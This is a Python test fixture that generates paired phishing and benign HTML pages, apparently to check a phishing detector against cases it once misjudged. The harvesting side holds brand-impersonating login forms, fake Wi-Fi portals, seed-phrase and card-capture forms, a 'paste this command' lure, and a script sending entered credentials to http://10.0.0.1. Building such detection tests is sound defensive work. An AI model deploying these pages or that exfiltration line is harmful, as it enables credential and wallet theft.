"""Pairs that differ in little: a page that harvests and an honest one with the same parts. Each pair stands for a kind of
page that the check once got wrong."""

from layouts import centred, plain, with_nav

FIELDS = "<input name=mail placeholder='E-mail'><input type=password name=pw placeholder=Password><button>Continue</button>"
KEY = "<input type=password name=pw placeholder=Password><button>Continue</button>"
TRAP = "".join(f"<input type=hidden name={name} value=''>" for name in ("hostname", "mac", "ip", "target"))
ROOMS = "<p>Rooms with a view of the harbour, breakfast until eleven, bicycles to borrow, parking, free Wi-Fi. " + "We look forward to your visit and will gladly help with anything you need. " * 8 + "</p>"
HOTLINKS = "".join(f"<img src='https://assets.brightwell-credit.invalid/{name}.png' alt=''>" for name in ("a", "b", "c", "d", "e"))


def harvest():
    yield "sign-01-file-of-a-logo", with_nav(
        "Sign in", f"<img src='img/google.png' alt=Logo><form method=post>{FIELDS}</form><p>Your session has expired.</p>")
    yield "sign-02-heading-using", centred(
        "Public Wi-Fi", f"<p>Get connected to the Internet for free.</p><h2>Login using Facebook</h2><form>{FIELDS}</form>")
    yield "sign-03-appended-to-address", centred(
        "Connexion", f"<div>{FIELDS}</div><script>function go(){{new Image().alt=0;"
        "load('http://10.0.0.1/?email='+encodeURIComponent(m.value)+'&password='+encodeURIComponent(p.value))}</script>")
    yield "sign-04-lead-french", centred("Page de connexion", f"<p>Se connecter à Twitch</p><form>{FIELDS}</form>", lang="fr")
    yield "sign-05-lead-swedish", centred("Inloggning", f"<p>Logga in på Spotify</p><form>{FIELDS}</form>", lang="sv")
    yield "sign-06-lead-indonesian", centred("Masuk", f"<p>Masuk ke Tokopedia</p><form>{FIELDS}</form>", lang="id")
    yield "sign-07-files-of-its-namesake", with_nav("Brightwell-Credit sign-in", f"{HOTLINKS}<form>{FIELDS}</form>")
    yield "sign-08-payment-line", centred("Welcome", f"<p>Log in to PayPal</p><form>{FIELDS}</form>")
    yield "sign-09-phrase-code", centred(
        "Add wallet", "<form action=data.php method=post><input name=app placeholder='Wallet app name'><input name=code placeholder='12 Phrase-Code'></form>")
    yield "sign-10-box-has-issues", centred(
        "Warning", "<p>Your box has some issues. Please enter your WIFI password to reset.</p><input type=password id=k placeholder='WIFI PASSWORD'>")
    yield "entrance-01-free-wifi", centred("Welcome", f"<p>Sign into Oakhall Free Wifi</p><p>Use your email account to log in</p><form>{FIELDS}</form>")
    yield "entrance-02-only-a-password", centred(
        "Network Access Verification", f"<p>Please verify your credentials to complete scheduled network updates.</p><form action='#'>{KEY}</form>")
    yield "entrance-03-hidden-fields", centred("WLAN", f"<form method=post>{FIELDS}{TRAP}</form>", lang="de")
    yield "entrance-04-trap-path", centred("Welcome", f"<p>Please enter your details</p><form action='/get'>{FIELDS}</form>")
    yield "entrance-05-card-for-wifi", centred(
        "Oakhall District WiFi Hotspot", "<p>One-time fee of 0.50</p><form><input name=card_number placeholder='Card number'><input name=cvv placeholder=CVV></form>")
    yield "site-01-school-logo", centred("Student sign-in", f"<img src='https://www.oakhall.ac.zz/logo.png' alt=Logo><form>{FIELDS}</form>")
    yield "site-02-lost-password", centred(
        "Oakhall staff", f"<form>{FIELDS}</form><a href='https://id.oakhall.invalid/forgot'>Forgot password?</a>")
    yield "sign-11-names-of-fields", centred(
        "Sign in", "<form><input name=loginfmt type=email placeholder='Your account'><input name=passwd type=password></form>")
    yield "sign-12-nothing-but-a-heading", centred("Welcome", f"<h1>Spotify</h1><form>{FIELDS}</form>")
    yield "sign-13-first-step", centred(
        "Sign in", "<h1>Sign in</h1><img src='https://www.netflix.com/l.png' alt=''><form><input name=email placeholder='Email'><button>Sign in</button></form>")
    yield "sign-14-account-portuguese", centred(
        "Login com Google", f"<p>Fazer login</p><p>Use sua Conta do Google</p><form>{FIELDS}</form>", lang="pt")
    yield "command-04-steps-alone", centred(
        "Summaries", "<p>Verifying you are human. Security verification required.</p><ol><li>Press Windows + R</li><li>Paste the command below</li><li>Press Enter</li></ol>")


def honest():
    icons = "".join(f"<img src='icons/{name}.png' alt=''>" for name in ("google", "facebook", "github"))
    yield "login_demo-31-row-of-icons", centred("Fernleaf: sign in", f"<form onsubmit='return false'>{FIELDS}</form><p>or</p>{icons}")
    yield "login_demo-32-icon-in-button", centred(
        "Fernleaf: sign in", f"<form onsubmit='return false'>{FIELDS}</form><button><img src='google.png' alt=''> Google</button>")
    yield "login_demo-33-button-with", centred(
        "Fernleaf", f"<h2>Sign in</h2><form>{FIELDS}</form><button>Sign in with Facebook</button>")
    yield "login_demo-34-search-appended", centred(
        "Weather for members", f"<form onsubmit='return false'>{FIELDS}</form><script>fetch('https://weather.example.net/v1?city='+city.value)</script>")
    yield "login_demo-35-stream-link", centred(
        "Connexion", f"<form onsubmit='return false'>{FIELDS}</form><p><a href='https://fernleaf.example/live'>Suivez-nous à Twitch</a></p>", lang="fr")
    yield "login_demo-36-under-a-host", with_nav("forms.github.io – sign-in form for dashboards", f"<form>{FIELDS}</form>")
    yield "login_demo-37-own-cdn", with_nav(
        "Fernleaf sign-in", "".join(f"<img src='https://cdn.jsdelivr.net/{n}.png' alt=''>" for n in "abcde") + f"<form>{FIELDS}</form>")
    yield "payment_demo-31-pay-line", centred(
        "Fernleaf checkout", "<p>Pay with PayPal or card</p><form onsubmit='return false'><input name=card placeholder='Card number'><input name=cvc placeholder=CVC></form>")
    yield "game-31-world-seed", centred("Minecraft seed viewer", "<form><label>Seed <input name=seed></label><button>Show map</button></form>")
    yield "slides-31-support-quotes", plain(
        "Agency", "<blockquote>Good tech support is rare.</blockquote>" * 4 + "<a href='tel:+18005550100'>800 555 0100</a>")
    yield "gallery-31-video", plain("YouTube cover", "<h1>YouTube</h1><iframe src='https://www.youtube-nocookie.com/embed/0'></iframe>")
    yield "login_demo-39-hotel", with_nav("Harbour Inn", f"<h1>Harbour Inn</h1>{ROOMS}<h2>Your bookings</h2><form onsubmit='return false'>{FIELDS}</form>")
    yield "app-31-network-of-a-device", centred(
        "Wi-Fi setup", "<p>Wireless router settings: new firmware installed.</p><form action=save><input name=ssid placeholder=SSID><input type=password name=key placeholder=Password></form>")
    yield "login_demo-40-posts-to-login", centred("Welcome", f"<p>Please enter your details</p><form action='/login' method=post>{FIELDS}</form>")
    yield "login_demo-41-picture-of-space", centred("Stargazers", f"<img src='https://apod.nasa.gov/a.jpg' alt='The Moon'><form onsubmit='return false'>{FIELDS}</form>")
    yield "login_demo-42-own-reset", centred(
        "Oakhall staff", f"<form onsubmit='return false'>{FIELDS}</form><a href='reset.html'>Forgot password?</a> <a href='https://www.oakhall.invalid/privacy'>Privacy</a>")
    yield "settings-31-heading-of-some", centred(
        "Connections", "<h3>Spotify</h3><input name=a placeholder='Playlist'><h3>Backup</h3><input name=b placeholder='Folder'><input name=c placeholder='Host'>"
        "<input name=d placeholder='User'><input type=password name=e placeholder='Password'>")
    yield "landing-31-pin-it", with_nav(
        "Fernway for Figma", "<h1>Fernway</h1><h2>Figma</h2><p>Tweet, share, pin it. Join our newsletter and get news in your inbox every week. We hate spam too.</p>"
        "<form action='https://fernway.us3.list-manage.com/subscribe'><input type=email name=EMAIL><input name=b_ff98 tabindex=-1></form>")
    yield "docs-31-open-terminal", centred(
        "Install", "<p>Open the terminal, paste the command and press Enter. On Windows, open PowerShell first.</p><code>cargo install fernway</code>")
    yield "login_demo-38-share-counter", {
        "index.html": centred("Fernleaf kit", f"<form>{FIELDS}</form><script src=share.js></script>"),
        "share.js": "var share={url:'counter.php',tracking:false};$.ajax({url:'counter.php'})",
    }
